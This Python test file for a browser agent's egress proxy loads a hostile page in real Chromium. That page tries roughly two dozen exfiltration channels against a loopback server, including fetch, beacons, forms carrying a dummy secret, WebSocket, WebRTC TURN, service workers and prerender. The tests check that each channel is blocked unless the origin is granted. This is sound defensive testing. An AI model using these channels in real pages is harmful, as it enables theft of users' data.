"""A hostile page in a real Chromium tries every way out it knows; a foreign raw server counts what arrives.

Each way is tried twice: with the foreign origin granted (it must work, else the test would prove nothing) and without.
"""

from __future__ import annotations

import asyncio
import re
import shutil
import socket
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.async_api import Page

from operator_agent.flow.origin import Origin
from operator_agent.settings import Settings
from operator_agent.surfaces.browser.egress.proxy import EgressProxy
from operator_agent.surfaces.browser.launch import find_browser, launch

WAYS = {
    *("img", "fetch", "xhr", "keepalive", "form", "r307", "r302", "iframe", "open", "refresh", "unload", "beacon", "worker"),
    *("shared", "sw", "events", "css", "font", "ping", "prefetch", "preload", "video", "object", "module", "stylesheet"),
}
"""Each asks the foreign server for /<way>; `ws` and `preconnect` open a tunnel or a bare connection instead."""

HOSTILE = """<!doctype html><meta charset=utf-8><title>hostile</title>
<link rel=preconnect href="FOREIGN"><link rel=dns-prefetch href="//FOREIGN_HOST">
<link rel=prefetch href="FOREIGN/prefetch"><link rel=preload as=image href="FOREIGN/preload">
<link rel=stylesheet href="FOREIGN/stylesheet">
<script type="speculationrules">{"prerender":[{"urls":["FOREIGN/prerender"],"eagerness":"immediate"}]}</script>
<style>@font-face{font-family:F;src:url(FOREIGN/font)} p{font-family:F;background:url(FOREIGN/css)}</style>
<p>text</p><img src="FOREIGN/img"><video src="FOREIGN/video"></video><object data="FOREIGN/object"></object>
<iframe src="FOREIGN/iframe"></iframe><iframe src="/refresh"></iframe><iframe src="/unload" id=leaving></iframe>
<iframe name=sink></iframe><iframe name=sink307></iframe>
<form id=form method=post action="FOREIGN/form" target=sink><input name=secret value=hunter2></form>
<form id=form307 method=post action="/go307" target=sink307><input name=secret value=hunter2></form>
<a id=ping href="#x" ping="FOREIGN/ping">ping</a>
<script>
const foreign = "FOREIGN", quiet = () => {};
async function attack() {
  fetch(foreign + "/fetch", {method: "POST", mode: "no-cors", body: "hunter2"}).catch(quiet);
  fetch(foreign + "/keepalive", {keepalive: true, mode: "no-cors"}).catch(quiet);
  fetch("/go302", {mode: "no-cors"}).catch(quiet);
  const xhr = new XMLHttpRequest(); xhr.open("GET", foreign + "/xhr"); xhr.send();
  import(foreign + "/module").catch(quiet);
  document.fonts.load("12px F").catch(quiet);
  form.submit(); form307.submit(); ping.click();
  window.open(foreign + "/open");
  new EventSource(foreign + "/events"); new WebSocket(foreign.replace("http", "ws") + "/ws");
  navigator.sendBeacon(foreign + "/beacon", "hunter2");
  new Worker("/worker.js"); new SharedWorker("/shared.js");
  const leave = () => leaving.contentWindow.armed ? (leaving.src = "about:blank") : setTimeout(leave, 20);
  leave();
  const transport = new WebTransport(foreign.replace("http", "https"));
  await Promise.all([transport.ready, transport.closed].map(p => p.catch(quiet)));
  await webrtc();
  await navigator.serviceWorker.register("/sw.js"); await navigator.serviceWorker.ready;
}
async function webrtc() {
  const host = foreign.slice(7), peer = new RTCPeerConnection({iceServers: [{urls: ["stun:" + host]},
    {urls: ["turn:" + host, "turn:" + host + "?transport=tcp"], username: "hunter2", credential: "hunter2"}]});
  const gathered = new Promise(done => peer.onicegatheringstatechange = () => peer.iceGatheringState == "complete" && done());
  peer.createDataChannel("x"); await peer.setLocalDescription();
  await Promise.race([gathered, new Promise(done => setTimeout(done, 3000))]);
}
</script>"""

SCRIPT = 'fetch("FOREIGN/{way}", {{mode: "no-cors", method: "POST", body: "hunter2"}}).catch(() => {{}})'
OWN_PAGES = {
    "/": HOSTILE,
    "/refresh": '<meta http-equiv=refresh content="0;url=FOREIGN/refresh">',
    "/unload": '<script>addEventListener("pagehide", () => navigator.sendBeacon("FOREIGN/unload", "hunter2"));'
    "armed = true</script>",
    "/worker.js": SCRIPT.format(way="worker"),
    "/shared.js": SCRIPT.format(way="shared"),
    "/sw.js": f"oninstall = event => event.waitUntil({SCRIPT.format(way='sw')})",
}


class Loopback:
    """A raw HTTP server on 127.0.0.1 with a UDP socket on the same port; keeps request paths and counts everything."""

    def __init__(self) -> None:
        self.connections = self.datagrams = self.bytes = 0
        self.paths: set[str] = set()
        self.pages: dict[str, str] = {}
        self.port = 0

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    async def accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        seen = b""
        try:
            while data := await reader.read(65536):
                self.bytes += len(data)
                seen += data
                if b"\r\n\r\n" in seen and (match := re.match(rb"[A-Z]+ (/\S*) ", seen)):
                    writer.write(self.answer(match[1].decode()))
                    break
            await writer.drain()
        except OSError:
            pass
        finally:
            writer.close()

    def answer(self, path: str) -> bytes:
        self.paths.add(path.lstrip("/"))
        if path.startswith("/go"):
            return f"HTTP/1.1 {path[3:]} Moved\r\nLocation: {self.pages['']}/r{path[3:]}\r\nContent-Length: 0\r\n\r\n".encode()
        kind = "text/javascript" if path.endswith(".js") else "text/html"
        body = self.pages.get(path, "").encode()
        return (
            f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nAccess-Control-Allow-Origin: *\r\n"
            f"Connection: close\r\nContent-Length: {len(body)}\r\n\r\n"
        ).encode() + body


class Datagrams(asyncio.DatagramProtocol):
    def __init__(self, server: Loopback) -> None:
        self.server = server

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.server.datagrams += 1


@asynccontextmanager
async def loopback() -> AsyncIterator[Loopback]:
    server = Loopback()
    listener = await asyncio.start_server(server.accept, "127.0.0.1", 0)
    server.port = listener.sockets[0].getsockname()[1]
    udp, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        lambda: Datagrams(server), local_addr=("127.0.0.1", server.port), family=socket.AF_INET
    )
    try:
        yield server
    finally:
        udp.close()
        listener.close()


@asynccontextmanager
async def hostile_page(
    settings: Settings, own: Loopback, foreign: Loopback, *, granted: bool
) -> AsyncIterator[tuple[Page, EgressProxy]]:
    fill = {"FOREIGN_HOST": "127.0.0.1", "FOREIGN": foreign.url}
    for path, text in OWN_PAGES.items():
        for name, value in fill.items():
            text = text.replace(name, value)
        own.pages[path] = text
    own.pages[""] = foreign.url
    reachable = {Origin.parse(server.url) for server in ((own, foreign) if granted else (own,))}
    async with EgressProxy(reachable.__contains__) as proxy:
        browser = await launch(settings, proxy=proxy.url, headed=False)
        try:
            await browser.page.goto(own.url, wait_until="commit")
            await browser.page.wait_for_function("window.attack && document.readyState != 'loading'")
            await browser.page.evaluate("attack()")
            yield browser.page, proxy
        finally:
            await browser.close()


async def until(condition: object, page: Page) -> None:
    """Wait, capped, on the browser's own clock, so that its messages are handled meanwhile."""
    assert callable(condition)
    for _ in range(100):
        if condition():
            return
        await page.evaluate("new Promise(done => setTimeout(done, 50))")


@pytest.fixture(params=["default", "chromium"])
def settings(request: pytest.FixtureRequest, tmp_path: Path) -> Settings:
    """The headless shell and the full browser read their switches in different places."""
    settings = replace(Settings.from_env(), state_dir=tmp_path)
    if request.param == "default":
        return settings
    full = shutil.which(request.param)
    if not full or Path(full) == find_browser(settings, headed=False):
        pytest.skip("no second Chromium here")
    return replace(settings, browser_path=Path(full))


async def test_every_way_out_works_when_granted(settings: Settings) -> None:
    async with loopback() as own, loopback() as foreign, hostile_page(settings, own, foreign, granted=True) as (page, proxy):
        await until(lambda: foreign.paths >= WAYS | {"ws"}, page)
        assert foreign.paths >= WAYS | {"ws"}
        assert not [refused for refused in proxy.refused if "127.0.0.1" in refused.url and refused.method != "CONNECT"]


async def test_no_way_out_carries_a_byte_when_not_granted(settings: Settings) -> None:
    async with loopback() as own, loopback() as foreign, hostile_page(settings, own, foreign, granted=False) as (page, proxy):

        def tried() -> set[str]:
            return {refused.url.rpartition("/")[2] for refused in proxy.refused if refused.url.startswith(foreign.url)}

        await until(lambda: tried() >= WAYS, page)
        assert tried() >= WAYS
        assert any(refused.method == "CONNECT" and str(foreign.port) in refused.url for refused in proxy.refused), "ws"
        await page.goto("about:blank")
    assert (foreign.connections, foreign.bytes, foreign.datagrams) == (0, 0, 0)
